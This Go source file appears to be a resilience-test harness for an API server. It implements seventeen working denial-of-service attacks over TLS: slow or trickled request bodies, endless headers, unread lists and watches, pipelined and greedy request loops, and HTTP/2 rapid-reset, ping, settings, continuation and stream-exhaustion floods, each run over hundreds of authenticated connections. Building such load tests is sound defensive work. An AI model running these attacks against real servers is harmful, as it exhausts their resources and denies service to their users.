package apiservertest

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/sampan-io/sampan/internal/run"
)

// A Target is a server that is attacked, and a user whose credential the attacker has.
type Target struct {
	Address string
	TLS     *tls.Config
	Header  http.Header // has the credential
	Create  string      // path that the user may POST to
	List    string      // path that the user may GET: better a large list
}

// An Attack is a way to hold a server's resources. Connections is how many of them are enough to hold more than a user
// may have, or to keep a processor busy.
type Attack struct {
	Name        string
	Connections int
	hold        func(a *attacker, ctx context.Context) error
}

const (
	manyConnections = 405
	greedyClients   = 1000
	fewConnections  = 8 // with many streams each, or at full speed
)

// Attacks returns all attacks.
func Attacks() []Attack {
	return []Attack{
		{"silent-bodies", manyConnections, (*attacker).silentBody},
		{"trickled-bodies", manyConnections, (*attacker).trickledBody},
		{"silent-body-streams", fewConnections, (*attacker).silentStreams},
		{"unread-lists", manyConnections, (*attacker).unreadList},
		{"unread-list-streams", fewConnections, (*attacker).unreadStreams},
		{"unread-watches", manyConnections, (*attacker).unreadWatch},
		{"watch-streams", fewConnections, (*attacker).watchStreams},
		{"blocking-reads", fewConnections, (*attacker).blockingReads},
		{"greedy-clients", greedyClients, (*attacker).greedy},
		{"fast-lists", manyConnections, (*attacker).fastLists},
		{"silent-connections", manyConnections, (*attacker).silence},
		{"endless-headers", manyConnections, (*attacker).endlessHeader},
		{"idle-connections", manyConnections, (*attacker).idle},
		{"rapid-resets", fewConnections, (*attacker).rapidReset},
		{"pings", fewConnections, (*attacker).pings},
		{"settings", fewConnections, (*attacker).settings},
		{"continuations", fewConnections, (*attacker).continuations},
	}
}

// Run attacks over so many connections, each again and again, until ctx is over. It calls held once every connection
// did its work, or failed to, for the first time.
func (k Attack) Run(ctx context.Context, t Target, connections int, held func()) {
	left := atomic.Int64{}
	left.Store(int64(connections))
	g := run.NewGroup(ctx, 0)
	for range connections {
		g.Go(func(ctx context.Context) {
			a := &attacker{Target: t, held: func() {
				if left.Add(-1) == 0 {
					held()
				}
			}}
			for ctx.Err() == nil {
				once, end := context.WithCancel(ctx)
				_ = k.hold(a, once) // an error is the server's defence
				end()
				a.hasHeld()
				run.Pause(ctx, 10*time.Millisecond)
			}
		})
	}
	g.Wait()
}

// An attacker has one connection at a time.
type attacker struct {
	Target
	held func() // nil when it was called
}

func (a *attacker) hasHeld() {
	if a.held != nil {
		a.held()
		a.held = nil
	}
}

// dial connects, and closes the connection when ctx is over.
func (a *attacker) dial(ctx context.Context, protocol string) (net.Conn, error) {
	config := a.TLS.Clone()
	config.NextProtos = []string{protocol}
	c, err := (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", a.Address)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { _ = c.(*tls.Conn).NetConn().Close() })
	return c, nil
}

// request sends the header of a request over HTTP/1.1, and what follows it.
func (a *attacker) request(ctx context.Context, method, path, more string) (net.Conn, error) {
	c, err := a.dial(ctx, "http/1.1")
	if err != nil {
		return nil, err
	}
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n", method, path)
	_ = a.Header.Write(&b)
	b.WriteString(more)
	_, err = c.Write(b.Bytes())
	return c, err
}

// untilClosed reads until the server closes the connection.
func (a *attacker) untilClosed(from io.Reader) error {
	a.hasHeld()
	_, err := io.Copy(io.Discard, from)
	return err
}

// leave holds a connection without reading.
func (a *attacker) leave(ctx context.Context) error {
	a.hasHeld()
	<-ctx.Done()
	return ctx.Err()
}

func (a *attacker) silentBody(ctx context.Context) error {
	c, err := a.request(ctx, "POST", a.Create, "Content-Length: 100\r\n\r\n{")
	if err != nil {
		return err
	}
	return a.untilClosed(c)
}

func (a *attacker) trickledBody(ctx context.Context) error {
	c, err := a.request(ctx, "POST", a.Create, "Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n")
	if err != nil {
		return err
	}
	a.hasHeld()
	for run.Pause(ctx, time.Second) {
		if _, err := io.WriteString(c, "1\r\n \r\n"); err != nil {
			return err
		}
	}
	return ctx.Err()
}

func (a *attacker) unreadList(ctx context.Context) error {
	if _, err := a.request(ctx, "GET", a.List, "\r\n"); err != nil {
		return err
	}
	return a.leave(ctx)
}

func (a *attacker) unreadWatch(ctx context.Context) error {
	if _, err := a.request(ctx, "GET", a.List+"?watch=1", "\r\n"); err != nil {
		return err
	}
	return a.leave(ctx)
}

func (a *attacker) blockingReads(ctx context.Context) error {
	return a.streams(ctx, "GET", a.List+"?until=false&timeoutSeconds=3600", true)
}

func (a *attacker) fastLists(ctx context.Context) error {
	c, err := a.request(ctx, "GET", a.List, strings.Repeat("\r\nGET "+a.List+" HTTP/1.1\r\nHost: x\r\n"+a.text(), 50)+"Connection: close\r\n\r\n")
	if err != nil {
		return err
	}
	return a.untilClosed(c)
}

// greedy makes small requests one after the other, and repeats refused ones at once.
func (a *attacker) greedy(ctx context.Context) error {
	const body = `{"apiVersion":"authentication.k8s.io/v1","kind":"SelfSubjectReview"}`
	once := fmt.Sprintf("Content-Length: %d\r\n\r\n%s", len(body), body)
	c, err := a.request(ctx, "POST", a.Create, once)
	if err != nil {
		return err
	}
	again := []byte("POST " + a.Create + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" + a.text() + once)
	for from := bufio.NewReader(c); ; {
		resp, err := http.ReadResponse(from, nil)
		if err != nil {
			return err
		}
		_, err = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		a.hasHeld()
		if err != nil {
			return err
		}
		if _, err := c.Write(again); err != nil {
			return err
		}
	}
}

// text returns the attacker's header.
func (a *attacker) text() string {
	var b strings.Builder
	_ = a.Header.Write(&b)
	return b.String()
}

func (a *attacker) silence(ctx context.Context) error {
	c, err := (&net.Dialer{}).DialContext(ctx, "tcp", a.Address)
	if err != nil {
		return err
	}
	context.AfterFunc(ctx, func() { _ = c.Close() })
	return a.untilClosed(c)
}

func (a *attacker) endlessHeader(ctx context.Context) error {
	c, err := a.request(ctx, "GET", a.List, "X-A: a\r\n")
	if err != nil {
		return err
	}
	a.hasHeld()
	for run.Pause(ctx, time.Second) {
		if _, err := io.WriteString(c, "X-A: a\r\n"); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// An h2 is a connection over HTTP/2 of which every frame is the attacker's.
type h2 struct {
	*http2.Framer
	conn net.Conn
	next uint32 // stream
}

// h2 connects over HTTP/2, with room for so many bytes of each answer.
func (a *attacker) h2(ctx context.Context, window uint32) (*h2, error) {
	c, err := a.dial(ctx, "h2")
	if err != nil {
		return nil, err
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil, err
	}
	f := &h2{http2.NewFramer(c, c), c, 1}
	return f, f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
}

// header returns the compressed header of a request. It may be used for one stream after another, because nothing
// in it is to be remembered.
func (a *attacker) header(method, path string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	put := func(name, value string) {
		_ = e.WriteField(hpack.HeaderField{Name: name, Value: value, Sensitive: true})
	}
	put(":method", method)
	put(":scheme", "https")
	put(":path", path)
	put(":authority", "x")
	put("content-type", "application/json")
	for name, values := range a.Header {
		put(strings.ToLower(name), values[0])
	}
	return b.Bytes()
}

// open begins a stream.
func (f *h2) open(header []byte, end bool) error {
	id := f.next
	f.next += 2
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: header, EndHeaders: true, EndStream: end})
}

// streamsEach is how many streams an attacker holds on a connection: the server's announced limit.
const streamsEach = 250

// streams holds streams of one request on a connection.
func (a *attacker) streams(ctx context.Context, method, path string, end bool) error {
	f, err := a.h2(ctx, 0)
	if err != nil {
		return err
	}
	header := a.header(method, path)
	for range streamsEach {
		id := f.next
		if err := f.open(header, end); err != nil {
			return err
		}
		if !end {
			if err := f.WriteData(id, false, []byte("{")); err != nil {
				return err
			}
		}
	}
	return a.untilClosed(f.conn)
}

func (a *attacker) silentStreams(ctx context.Context) error {
	return a.streams(ctx, "POST", a.Create, false)
}

func (a *attacker) unreadStreams(ctx context.Context) error {
	return a.streams(ctx, "GET", a.List, true)
}

func (a *attacker) watchStreams(ctx context.Context) error {
	return a.streams(ctx, "GET", a.List+"?watch=1", true)
}

func (a *attacker) idle(ctx context.Context) error {
	f, err := a.h2(ctx, 1<<20)
	if err != nil {
		return err
	}
	if err := f.open(a.header("GET", "/version"), true); err != nil {
		return err
	}
	return a.untilClosed(f.conn)
}

// flood connects over HTTP/2 and writes frames as fast as the server reads them; its answers are read.
func (a *attacker) flood(ctx context.Context, write func(f *h2) error) error {
	f, err := a.h2(ctx, 1<<20)
	if err != nil {
		return err
	}
	g := run.NewGroup(ctx, 0)
	defer g.Stop()
	defer f.conn.(*tls.Conn).NetConn().Close()
	g.Go(func(context.Context) { _, _ = io.Copy(io.Discard, f.conn) })
	for ctx.Err() == nil {
		if err := write(f); err != nil {
			return err
		}
		a.hasHeld()
	}
	return ctx.Err()
}

func (a *attacker) rapidReset(ctx context.Context) error {
	header := a.header("GET", a.List)
	return a.flood(ctx, func(f *h2) error {
		id := f.next
		if err := f.open(header, true); err != nil {
			return err
		}
		return f.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

func (a *attacker) pings(ctx context.Context) error {
	return a.flood(ctx, func(f *h2) error { return f.WritePing(false, [8]byte{}) })
}

func (a *attacker) settings(ctx context.Context) error {
	return a.flood(ctx, func(f *h2) error { return f.WriteSettings() })
}

func (a *attacker) continuations(ctx context.Context) error {
	piece := bytes.Repeat([]byte{0x10, 1, 'a', 1, 'b'}, 1000) // fields that are never indexed
	return a.flood(ctx, func(f *h2) error {
		id := f.next
		f.next += 2
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.header("GET", a.List)}); err != nil {
			return err
		}
		for {
			if err := f.WriteContinuation(id, false, piece); err != nil {
				return err
			}
		}
	})
}
